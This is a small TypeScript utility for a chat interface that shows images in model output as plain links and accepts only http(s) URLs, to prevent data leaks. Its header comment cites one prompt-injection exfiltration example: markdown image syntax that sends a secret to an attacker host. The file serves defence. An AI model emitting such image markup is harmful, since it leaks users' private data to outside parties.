/**
 * URLs in model output (or in a crafted shared session) are untrusted: an image the browser
 * loads on its own is a way to send data out (`![](https://attacker/?q=<secret>)`, prompt
 * injection exfiltration). Replies therefore show images as links the user may follow, and
 * only for absolute http(s) URLs.
 */

/** `url` when it is an absolute http(s) URL, else null (relative, data:, javascript:, blob:, garbage). */
export function httpUrlOrNull(url: unknown): string | null {
  if (typeof url !== "string" || !url.trim()) return null;
  try {
    const parsed = new URL(url.trim());
    return parsed.protocol === "http:" || parsed.protocol === "https:" ? parsed.href : null;
  } catch {
    return null;
  }
}

/** The visible stand-in for an image that is not loaded: "[image: a cat]". */
export function imageLinkText(alt: unknown): string {
  const text = typeof alt === "string" ? alt.trim() : "";
  return `[image: ${text || "no description"}]`;
}

/** `rel` for every link in model output: no opener, no referrer, no endorsement. */
export const UNTRUSTED_LINK_REL = "noopener noreferrer nofollow";
